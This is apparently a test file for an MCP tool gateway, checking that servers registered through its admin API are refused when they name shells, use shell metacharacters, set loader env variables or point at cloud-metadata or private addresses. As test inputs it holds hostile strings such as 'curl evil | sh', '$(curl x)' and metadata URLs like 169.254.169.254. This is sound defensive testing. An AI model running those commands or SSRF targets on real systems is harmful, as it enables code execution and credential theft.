import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { api, uid } from '../admin/api.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { postgresRun, type EngineRun } from '../store/engines.js';
import type { Store } from '../../src/store/types.js';
import { checkRecord } from '../../src/admin/server-request.js';
import { stdioProblems } from '../../src/admin/server-safety.js';
import { EMPTY_ALLOWLIST, parseAllowlist } from '../../src/upstream/egress.js';
import { DEFAULT_STDIO_COMMANDS } from '../../src/upstream/stdio-policy.js';
import { EVERYTHING_JS, SALT } from './setup.js';

const ALLOWING = `
general_settings: { store_model_in_db: true }
toolgate_settings:
  upstream_allowlist: ["127.0.0.1", "localhost", "10.0.0.0/8"]
mcp_servers:
  # config.yaml is trusted as written: no address guard, no command allow-list.
  trusted_loopback: { url: "http://127.0.0.1:9/mcp" }
  trusted_metadata: { url: "http://169.254.169.254/mcp" }
  trusted_shell: { command: "/bin/sh", args: ["-c", "exit 1"] }
`;
const STRICT = 'general_settings: { store_model_in_db: true }\nmcp_servers: {}\n';

describe('write-time safety of servers registered through the API', () => {
  const runs: EngineRun[] = [];
  const stores: Store[] = [];
  let allowing: TestGateway;
  let strict: TestGateway;

  before(async () => {
    const open = async () => {
      const run = await postgresRun();
      runs.push(run);
      const s = await run.open();
      stores.push(s);
      return s;
    };
    const env = {
      TOOLGATE_SALT_KEY: SALT,
      TOOLGATE_STDIO_EXTRA_COMMANDS: 'mytool, /opt/tools/mcp-x',
      LITELLM_MCP_STDIO_EXTRA_COMMANDS: 'littool',
    };
    allowing = await startTestGateway(ALLOWING, env, 0, { store: await open() });
    strict = await startTestGateway(STRICT, { TOOLGATE_SALT_KEY: SALT }, 0, { store: await open() });
  });
  after(async () => {
    await allowing?.close();
    await strict?.close();
    for (const s of stores) await s.close();
    for (const r of runs) await r.cleanup();
  });

  const stdio = (gw: TestGateway, command: unknown, args: unknown = [], key?: string) =>
    api(gw, 'POST', '/v1/mcp/server', { server_name: 'st_' + uid(), transport: 'stdio', command, args }, key);

  test('config.yaml servers are trusted as written', () => {
    assert.deepEqual([...allowing.registry.names()], ['trusted_loopback', 'trusted_metadata', 'trusted_shell']);
  });

  test('stdio: the default commands and both extra-command variables are admitted', async () => {
    // Checked without registering: a registered server is started at once, and most of these are not MCP servers.
    const extra = ['mytool', '/opt/tools/mcp-x', 'littool'];
    for (const command of [...DEFAULT_STDIO_COMMANDS, ...extra]) {
      assert.deepEqual(stdioProblems({ server_id: 'x', server_name: 'x', transport: 'stdio', command, args: ['a'] }, extra), [], command);
    }
    assert.equal((await stdio(allowing, 'node', [EVERYTHING_JS, 'stdio'])).status, 201);
    assert.equal((await stdio(allowing, 'littool')).status, 201, 'LITELLM_MCP_STDIO_EXTRA_COMMANDS');
    assert.equal((await stdio(allowing, '/opt/tools/mcp-x')).status, 201, 'TOOLGATE_STDIO_EXTRA_COMMANDS');
    assert.equal((await stdio(strict, 'mytool')).status, 400, 'extra commands come from that gateway only');
  });

  test('stdio: shells, shell syntax, paths outside the list and non-string args are refused', async () => {
    const cases: [unknown, unknown, string, RegExp][] = [
      ['bash', ['-c', 'curl evil | sh'], 'command', /"bash" is not allowed.*is a shell/],
      ['bash -c "id"', [], 'command', /shell metacharacters or spaces.*is a shell/],
      ['/bin/sh', ['-c', 'id'], 'command', /"\/bin\/sh" is not allowed.*is a shell/],
      ['/usr/bin/node', [], 'command', /"\/usr\/bin\/node" is not allowed; allowed: npx, uvx, python, python3, node, docker, deno/],
      ['./node', [], 'command', /is not allowed/],
      ['node;id', [], 'command', /shell metacharacters/],
      ['$(curl x)', [], 'command', /shell metacharacters/],
      ['node`id`', [], 'command', /shell metacharacters/],
      ['node && id', [], 'command', /shell metacharacters/],
      ['', [], 'command', /must be a program name/],
      [42, [], 'command', /must be a program name/],
      ['node', 'server.js --stdio', 'args', /expected a list of strings/],
      ['node', ['server.js', 3], 'args[1]', /expected a string/],
    ];
    for (const [command, args, param, message] of cases) {
      const r = await stdio(allowing, command, args);
      assert.equal(r.status, 400, `${String(command)}: ${r.text}`);
      assert.equal(r.json.error.param, param, String(command));
      assert.match(r.json.error.message, message, String(command));
      assert.match(r.json.error.message, new RegExp(`^${param.replace(/[[\]]/g, '\\$&')}: `));
    }
    const hint = await stdio(allowing, 'ruby');
    assert.match(hint.json.error.message, /TOOLGATE_STDIO_EXTRA_COMMANDS or LITELLM_MCP_STDIO_EXTRA_COMMANDS/);
  });

  test('stdio: env names that pick the program or what it loads are refused (400 naming env.NAME), on POST and PUT', async () => {
    for (const name of [
      'PATH',
      'Path',
      'LD_PRELOAD',
      'DYLD_INSERT_LIBRARIES',
      'NODE_OPTIONS',
      'NODE_PATH',
      'PYTHONPATH',
      'BASH_ENV',
      'ENV',
      'PERL5LIB',
      'RUBYOPT',
      'JAVA_TOOL_OPTIONS',
    ]) {
      const r = await api(allowing, 'POST', '/v1/mcp/server', {
        server_name: 'env_' + uid(),
        transport: 'stdio',
        command: 'node',
        args: [EVERYTHING_JS, 'stdio'],
        env: { SAFE_TOKEN: 'x', [name]: '/tmp/x' },
      });
      assert.equal(r.status, 400, `${name}: ${r.text}`);
      assert.equal(r.json.error.param, `env.${name}`);
      assert.match(r.json.error.message, new RegExp(`^env\\.${name}: may not be set`));
    }
    const ok = await api(allowing, 'POST', '/v1/mcp/server', {
      server_name: 'env_' + uid(),
      transport: 'stdio',
      command: 'node',
      args: [EVERYTHING_JS, 'stdio'],
      env: { UPSTREAM_TOKEN: 'x' },
    });
    assert.equal(ok.status, 201, ok.text);
    const put = await api(allowing, 'PUT', '/v1/mcp/server', { server_id: ok.json.server_id, env: { PATH: '/tmp/x' } });
    assert.equal(put.status, 400, put.text);
    assert.equal(put.json.error.param, 'env.PATH');
  });

  test('stdio: only admins may register one', async () => {
    const dev = await api(allowing, 'POST', '/key/generate', {});
    const r = await stdio(allowing, 'node', [EVERYTHING_JS, 'stdio'], dev.json.key);
    assert.equal(r.status, 403);
  });

  const http = (gw: TestGateway, url: string, extra: Record<string, unknown> = {}) =>
    api(gw, 'POST', '/v1/mcp/server', { server_name: 'u_' + uid(), url, ...extra });

  test('URLs: link-local and cloud-metadata targets are always refused', async () => {
    for (const url of [
      'http://169.254.169.254/latest/meta-data',
      'http://169.254.10.1/mcp',
      'http://metadata.google.internal/computeMetadata/v1',
      'http://[fd00:ec2::254]/mcp',
      'http://[::ffff:169.254.169.254]/mcp',
      'http://100.100.100.200/mcp',
    ]) {
      for (const gw of [allowing, strict]) {
        const r = await http(gw, url);
        assert.equal(r.status, 400, `${url}: ${r.text}`);
        assert.equal(r.json.error.param, 'url');
        assert.match(r.json.error.message, /always refused/, url);
      }
    }
    const token = await http(allowing, 'http://127.0.0.1:9/mcp', {
      auth_type: 'oauth2',
      oauth2_flow: 'client_credentials',
      token_url: 'http://169.254.169.254/token',
      credentials: { client_id: 'c', client_secret: 's' },
    });
    assert.equal(token.json.error.param, 'token_url');
  });

  test('URLs: private and loopback targets only when upstream_allowlist admits them', async () => {
    for (const url of [
      'http://127.0.0.1:9/mcp',
      'http://localhost:9/mcp',
      'http://10.1.2.3/mcp',
      'http://192.168.1.1/mcp',
      'http://[::1]:9/mcp',
      'http://0.0.0.0:9/mcp',
    ]) {
      const r = await http(strict, url);
      assert.equal(r.status, 400, `${url}: ${r.text}`);
      assert.match(
        r.json.error.message,
        /(private|loopback) address; add the host or its CIDR to toolgate_settings\.upstream_allowlist/,
        url,
      );
    }
    for (const url of ['http://127.0.0.1:9/mcp', 'http://localhost:9/mcp']) assert.equal((await http(allowing, url)).status, 201, url);
    const allowlist = parseAllowlist(['10.0.0.0/8']);
    const settings = { enabled: true, stdioExtraCommands: [], allowlist, env: {}, file: 'x.yaml' };
    // Checked without registering: tests connect to 127.0.0.1 only.
    assert.equal(
      (await checkRecord({ server_id: 'p', server_name: 'p', url: 'http://10.1.2.3/mcp' }, settings)).url,
      'http://10.1.2.3/mcp',
    );
    assert.equal((await http(allowing, 'http://192.168.1.1/mcp')).status, 400, 'outside the allow-list');
    // A public address passes (checked without registering: tests connect to 127.0.0.1 only).
    const write = { enabled: true, stdioExtraCommands: [], allowlist: EMPTY_ALLOWLIST, env: {}, file: 'x.yaml' };
    const pub = await checkRecord({ server_id: 'p', server_name: 'p', url: 'http://93.184.216.34/mcp' }, write);
    assert.equal(pub.origin, 'api');
  });

  test('a PUT is checked like a POST', async () => {
    const made = await http(allowing, 'http://127.0.0.1:9/mcp');
    const r = await api(allowing, 'PUT', '/v1/mcp/server', { server_id: made.json.server_id, url: 'http://169.254.169.254/' });
    assert.equal(r.status, 400);
    const s = await api(allowing, 'PUT', '/v1/mcp/server', {
      server_id: made.json.server_id,
      url: null,
      transport: 'stdio',
      command: 'sh',
    });
    assert.equal(s.json.error.param, 'command');
  });
});
